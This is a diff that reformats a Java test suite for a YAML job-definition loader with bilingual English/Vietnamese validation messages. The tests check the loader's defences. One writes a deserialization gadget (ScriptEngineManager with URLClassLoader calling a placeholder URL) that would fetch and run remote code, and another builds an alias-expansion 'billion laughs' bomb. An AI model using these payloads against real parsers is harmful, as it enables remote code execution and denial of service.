@@ -33,7 +33,9 @@ class JobDefinitionsTest {
 
     @Test
     void aConsolidationNeedsOnlyItsKindInputAndOutput() {
-        write("nightly.yaml", """
+        write(
+                "nightly.yaml",
+                """
                 kind: consolidation
                 input: input
                 output: output
@@ -49,7 +51,9 @@ class JobDefinitionsTest {
 
     @Test
     void relativePathsResolveAgainstTheFolderHoldingJobs() {
-        write("nightly.yaml", """
+        write(
+                "nightly.yaml",
+                """
                 kind: consolidation
                 input: ../drop/./xa
                 output: /srv/reports
@@ -63,7 +67,9 @@ class JobDefinitionsTest {
 
     @Test
     void aNameKeyOverridesTheFileName() {
-        write("tom-tat.yml", """
+        write(
+                "tom-tat.yml",
+                """
                 name: summary-cao-bang
                 kind: summary
                 units: [Cao Bằng]
@@ -108,9 +114,10 @@ class JobDefinitionsTest {
     void aConsolidationWithoutInputSaysSo() {
         write("nightly.yaml", "kind: consolidation\noutput: output\n");
 
-        assertThat(onlyProblem().message()).isEqualTo("jobs/nightly.yaml: key 'input': missing; expected the folder a "
-                + "consolidation reads, e.g. input: input / khóa 'input': thiếu; cần thư mục đầu vào của công việc tổng "
-                + "hợp, ví dụ input: input");
+        assertThat(onlyProblem().message())
+                .isEqualTo("jobs/nightly.yaml: key 'input': missing; expected the folder a "
+                        + "consolidation reads, e.g. input: input / khóa 'input': thiếu; cần thư mục đầu vào của công việc tổng "
+                        + "hợp, ví dụ input: input");
     }
 
     @Test
@@ -122,7 +129,9 @@ class JobDefinitionsTest {
 
     @Test
     void aReviewNeedsUnitsAndBothYears() {
-        write("r.yaml", """
+        write(
+                "r.yaml",
+                """
                 kind: review
                 output: out
                 periods:
@@ -134,9 +143,13 @@ class JobDefinitionsTest {
 
     @Test
     void aReviewTakesItsOwnCrosswalkWhenTheFileIsAValidCrosswalk() throws IOException {
-        Files.writeString(project.resolve("ranh-gioi.csv"), "effective_date,old_unit,old_parent,new_unit,new_parent,share,"
-                + "confidence,legal_basis,source,note\n2025-07-01,Xã A,huyện H,Xã B,tỉnh T,1,verbatim,,,\n");
-        write("r.yaml", """
+        Files.writeString(
+                project.resolve("ranh-gioi.csv"),
+                "effective_date,old_unit,old_parent,new_unit,new_parent,share,"
+                        + "confidence,legal_basis,source,note\n2025-07-01,Xã A,huyện H,Xã B,tỉnh T,1,verbatim,,,\n");
+        write(
+                "r.yaml",
+                """
                 kind: review
                 output: out
                 units: [B]
@@ -150,14 +163,18 @@ class JobDefinitionsTest {
     @Test
     void aCrosswalkThatIsMissingOrBrokenIsRefusedAtStartUp() throws IOException {
         Files.writeString(project.resolve("broken.csv"), "effective_date,old_unit\n2025-07-01,Xã A\n");
-        write("r.yaml", """
+        write(
+                "r.yaml",
+                """
                 kind: review
                 output: out
                 units: [B]
                 periods: {from: 2024, to: 2025}
                 crosswalk: broken.csv
                 """);
-        write("s.yaml", """
+        write(
+                "s.yaml",
+                """
                 kind: summary
                 output: out
                 units: [B]
@@ -177,22 +194,26 @@ class JobDefinitionsTest {
     void aJobWithoutKindSaysWhichKindsThereAre() {
         write("x.yaml", "output: out\n");
 
-        assertThat(onlyProblem().message()).isEqualTo("jobs/x.yaml: key 'kind': missing; expected what the job does: "
-                + "one of consolidation, summary, review / khóa 'kind': thiếu; cần loại công việc: một trong "
-                + "consolidation, summary, review");
+        assertThat(onlyProblem().message())
+                .isEqualTo("jobs/x.yaml: key 'kind': missing; expected what the job does: "
+                        + "one of consolidation, summary, review / khóa 'kind': thiếu; cần loại công việc: một trong "
+                        + "consolidation, summary, review");
     }
 
     @Test
     void aKindMisspelledIsSuggested() {
         write("x.yaml", "kind: consolidate\ninput: in\noutput: out\n");
 
-        assertThat(onlyProblem().problem()).isEqualTo(Message.of("jobdef.kind.unknown.meant", "consolidate",
-                "consolidation, summary, review", "consolidation"));
+        assertThat(onlyProblem().problem())
+                .isEqualTo(Message.of(
+                        "jobdef.kind.unknown.meant", "consolidate", "consolidation, summary, review", "consolidation"));
     }
 
     @Test
     void keysAnotherKindNeedsAreErrorsNotSilentlyIgnored() {
-        write("s.yaml", """
+        write(
+                "s.yaml",
+                """
                 kind: summary
                 input: input
                 units: [Quảng Hòa]
@@ -202,9 +223,9 @@ class JobDefinitionsTest {
                   incremental: true
                 """);
 
-        assertThat(problems()).extracting(JobDefinitionProblem::line, JobDefinitionProblem::key)
-                .containsExactly(tuple(2, "input"),
-                        tuple(7, "options.incremental"));
+        assertThat(problems())
+                .extracting(JobDefinitionProblem::line, JobDefinitionProblem::key)
+                .containsExactly(tuple(2, "input"), tuple(7, "options.incremental"));
         assertThat(problems().get(0).problem())
                 .isEqualTo(Message.of("jobdef.key.notUsed", "summary", Message.of("jobdef.why.readsDatabase")));
     }
@@ -213,7 +234,9 @@ class JobDefinitionsTest {
 
     @Test
     void aCronExpressionWithFourFieldsNamesTheFileTheKeyAndTheFormat() {
-        write("nightly.yaml", """
+        write(
+                "nightly.yaml",
+                """
                 kind: consolidation
                 input: input
                 output: output
@@ -225,8 +248,10 @@ class JobDefinitionsTest {
         assertThat(problem.file()).isEqualTo("jobs/nightly.yaml");
         assertThat(problem.line()).isEqualTo(4);
         assertThat(problem.key()).isEqualTo("schedule");
-        assertThat(problem.message()).startsWith("jobs/nightly.yaml line 4: key 'schedule': '0 2 * *' is not a cron "
-                + "expression (6 fields: second minute hour day month weekday, e.g. '0 0 2 * * *' = 02:00 every day)")
+        assertThat(problem.message())
+                .startsWith(
+                        "jobs/nightly.yaml line 4: key 'schedule': '0 2 * *' is not a cron "
+                                + "expression (6 fields: second minute hour day month weekday, e.g. '0 0 2 * * *' = 02:00 every day)")
                 .contains(" / dòng 4: khóa 'schedule': '0 2 * *' không phải biểu thức cron (6 trường: giây phút giờ "
                         + "ngày tháng thứ");
     }
@@ -241,15 +266,19 @@ class JobDefinitionsTest {
 
     @Test
     void anUnknownKeyNamesTheKeyItProbablyMeant() {
-        write("nightly.yaml", """
+        write(
+                "nightly.yaml",
+                """
                 kind: consolidation
                 input: input
                 output: output
                 shedule: "0 0 2 * * *"
                 """);
 
-        assertThat(onlyProblem().message()).isEqualTo("jobs/nightly.yaml line 4: key 'shedule': unknown key; did you "
-                + "mean 'schedule'? / dòng 4: khóa 'shedule': khóa không có trong định nghĩa; có phải là 'schedule'?");
+        assertThat(onlyProblem().message())
+                .isEqualTo(
+                        "jobs/nightly.yaml line 4: key 'shedule': unknown key; did you "
+                                + "mean 'schedule'? / dòng 4: khóa 'shedule': khóa không có trong định nghĩa; có phải là 'schedule'?");
     }
 
     @Test
@@ -274,9 +303,10 @@ class JobDefinitionsTest {
     void aMissingOutputIsReportedForEveryKind() {
         write("nightly.yaml", "kind: consolidation\ninput: input\n");
 
-        assertThat(onlyProblem().message()).isEqualTo("jobs/nightly.yaml: key 'output': missing; expected the folder "
-                + "the job writes into, e.g. output: output/tom-tat / khóa 'output': thiếu; cần thư mục ghi kết quả, "
-                + "ví dụ output: output/tom-tat");
+        assertThat(onlyProblem().message())
+                .isEqualTo("jobs/nightly.yaml: key 'output': missing; expected the folder "
+                        + "the job writes into, e.g. output: output/tom-tat / khóa 'output': thiếu; cần thư mục ghi kết quả, "
+                        + "ví dụ output: output/tom-tat");
     }
 
     @Test
@@ -306,10 +336,11 @@ class JobDefinitionsTest {
 
         JobDefinitionProblem problem = onlyProblem();
 
-        assertThat(problem.message()).isEqualTo("jobs/old-nightly.yaml line 1: key 'name': the job name 'nightly' is "
-                + "already used by jobs/nightly.yaml; each job needs its own name (the file name, or name:) / "
-                + "dòng 1: khóa 'name': tên công việc 'nightly' đã dùng ở jobs/nightly.yaml; mỗi công việc cần "
-                + "một tên riêng (tên tệp hoặc name:)");
+        assertThat(problem.message())
+                .isEqualTo("jobs/old-nightly.yaml line 1: key 'name': the job name 'nightly' is "
+                        + "already used by jobs/nightly.yaml; each job needs its own name (the file name, or name:) / "
+                        + "dòng 1: khóa 'name': tên công việc 'nightly' đã dùng ở jobs/nightly.yaml; mỗi công việc cần "
+                        + "một tên riêng (tên tệp hoặc name:)");
     }
 
     @Test
@@ -328,13 +359,15 @@ class JobDefinitionsTest {
     void anEmptyListOfUnitsIsRefused() {
         write("s.yaml", "kind: summary\nunits: []\nperiods: [2025]\noutput: out\n");
 
-        assertThat(onlyProblem().message()).startsWith("jobs/s.yaml line 2: key 'units': found an empty list; expected a "
-                + "list of unit names");
+        assertThat(onlyProblem().message())
+                .startsWith("jobs/s.yaml line 2: key 'units': found an empty list; expected a " + "list of unit names");
     }
 
     @Test
     void aReviewFromAfterToIsRefused() {
-        write("review.yaml", """
+        write(
+                "review.yaml",
+                """
                 kind: review
                 units: [Quảng Hòa]
                 output: out
@@ -343,8 +376,9 @@ class JobDefinitionsTest {
                   to: 2021
                 """);
 
-        assertThat(onlyProblem().message()).isEqualTo("jobs/review.yaml line 5: key 'periods': from 2025 is after to "
-                + "2021; expected from ≤ to / dòng 5: khóa 'periods': from 2025 sau to 2021; cần from ≤ to");
+        assertThat(onlyProblem().message())
+                .isEqualTo("jobs/review.yaml line 5: key 'periods': from 2025 is after to "
+                        + "2021; expected from ≤ to / dòng 5: khóa 'periods': from 2025 sau to 2021; cần from ≤ to");
     }
 
     @Test
@@ -355,13 +389,18 @@ class JobDefinitionsTest {
 
         assertThat(problem.line()).isEqualTo(6);
         assertThat(problem.key()).isEqualTo("periods");
-        assertThat(problem.problem()).isEqualTo(Message.of("jobdef.found", Message.of("jobdef.found.value", "năm ngoái"),
-                Message.of("jobdef.expect.period")));
+        assertThat(problem.problem())
+                .isEqualTo(Message.of(
+                        "jobdef.found",
+                        Message.of("jobdef.found.value", "năm ngoái"),
+                        Message.of("jobdef.expect.period")));
     }
 
     @Test
     void aTimeZoneThatDoesNotExistIsRefused() {
-        write("nightly.yaml", """
+        write(
+                "nightly.yaml",
+                """
                 kind: consolidation
                 input: in
                 output: out
@@ -369,16 +408,19 @@ class JobDefinitionsTest {
                   timeZone: Asia/Hanoi
                 """);
 
-        assertThat(onlyProblem().message()).isEqualTo("jobs/nightly.yaml line 5: key 'options.timeZone': 'Asia/Hanoi' "
-                + "is not a time zone; expected a region such as Asia/Ho_Chi_Minh or an offset such as +07:00 / dòng 5: "
-                + "khóa 'options.timeZone': 'Asia/Hanoi' không phải múi giờ; cần tên vùng như Asia/Ho_Chi_Minh hoặc độ "
-                + "lệch như +07:00");
+        assertThat(onlyProblem().message())
+                .isEqualTo("jobs/nightly.yaml line 5: key 'options.timeZone': 'Asia/Hanoi' "
+                        + "is not a time zone; expected a region such as Asia/Ho_Chi_Minh or an offset such as +07:00 / dòng 5: "
+                        + "khóa 'options.timeZone': 'Asia/Hanoi' không phải múi giờ; cần tên vùng như Asia/Ho_Chi_Minh hoặc độ "
+                        + "lệch như +07:00");
     }
 
     @Test
     void aProvinceWrittenAsANameGetsItsFileNameSuggested() {
-        write("s.yaml", "kind: summary\nunits: [Quảng Hòa]\nperiods: [2025]\noutput: out\n"
-                + "options:\n  province: Tỉnh Cao Bằng\n");
+        write(
+                "s.yaml",
+                "kind: summary\nunits: [Quảng Hòa]\nperiods: [2025]\noutput: out\n"
+                        + "options:\n  province: Tỉnh Cao Bằng\n");
 
         JobDefinitionProblem problem = onlyProblem();
 
@@ -402,13 +444,15 @@ class JobDefinitionsTest {
     void aKeyWrittenTwiceIsReportedWithTheFirstLine() {
         write("nightly.yaml", "kind: consolidation\ninput: in\noutput: out\ninput: drop\n");
 
-        assertThat(onlyProblem().message()).startsWith(
-                "jobs/nightly.yaml line 4: key 'input': written twice (first on line 2)");
+        assertThat(onlyProblem().message())
+                .startsWith("jobs/nightly.yaml line 4: key 'input': written twice (first on line 2)");
     }
 
     @Test
     void aYamlSyntaxErrorGivesTheFileAndLine() {
-        write("nightly.yaml", """
+        write(
+                "nightly.yaml",
+                """
                 kind: consolidation
                 input: input
                 output: "output
@@ -435,8 +479,10 @@ class JobDefinitionsTest {
 
     @Test
     void typesFromTagsAreNeverBuilt() {
-        write("evil.yaml", "kind: consolidation\ninput: in\noutput: !!javax.script.ScriptEngineManager "
-                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n");
+        write(
+                "evil.yaml",
+                "kind: consolidation\ninput: in\noutput: !!javax.script.ScriptEngineManager "
+                        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n");
 
         List<JobDefinitionProblem> problems = problems();
 
@@ -449,8 +495,12 @@ class JobDefinitionsTest {
         StringBuilder yaml = new StringBuilder("kind: consolidation\ninput: in\noutput: out\na: &a [lol, lol, lol]\n");
         String previous = "a";
         for (String level : List.of("b", "c", "d", "e", "f", "g", "h", "i", "j")) {
-            yaml.append(level).append(": &").append(level).append(" [").append(
-                    String.join(", ", Collections.nCopies(9, "*" + previous))).append("]\n");
+            yaml.append(level)
+                    .append(": &")
+                    .append(level)
+                    .append(" [")
+                    .append(String.join(", ", Collections.nCopies(9, "*" + previous)))
+                    .append("]\n");
             previous = level;
         }
         write("bomb.yaml", yaml.toString());
@@ -469,16 +519,20 @@ class JobDefinitionsTest {
     void anEmptyFileSaysWhatAJobNeeds() {
         write("nightly.yaml", "# nothing yet\n");
 
-        assertThat(onlyProblem().message()).isEqualTo("jobs/nightly.yaml: the file is empty; a job needs at least kind: "
-                + "and output: / tệp trống; công việc cần ít nhất kind: và output:");
+        assertThat(onlyProblem().message())
+                .isEqualTo("jobs/nightly.yaml: the file is empty; a job needs at least kind: "
+                        + "and output: / tệp trống; công việc cần ít nhất kind: và output:");
     }
 
     @Test
     void aMissingJobsFolderIsOneProblem() {
-        InvalidJobDefinitionException e = catchThrowableOfType(InvalidJobDefinitionException.class,
-                () -> JobDefinitions.load(project.resolve("job")));
+        InvalidJobDefinitionException e = catchThrowableOfType(
+                InvalidJobDefinitionException.class, () -> JobDefinitions.load(project.resolve("job")));
 
-        assertThat(e.problems()).singleElement().extracting(JobDefinitionProblem::file).isEqualTo("job");
+        assertThat(e.problems())
+                .singleElement()
+                .extracting(JobDefinitionProblem::file)
+                .isEqualTo("job");
     }
 
     @Test
@@ -507,8 +561,8 @@ class JobDefinitionsTest {
     }
 
     private List<JobDefinitionProblem> problems() {
-        InvalidJobDefinitionException e = catchThrowableOfType(InvalidJobDefinitionException.class,
-                () -> JobDefinitions.load(jobs));
+        InvalidJobDefinitionException e =
+                catchThrowableOfType(InvalidJobDefinitionException.class, () -> JobDefinitions.load(jobs));
         assertThat(e).as("an InvalidJobDefinitionException").isNotNull();
         return e.problems();
     }
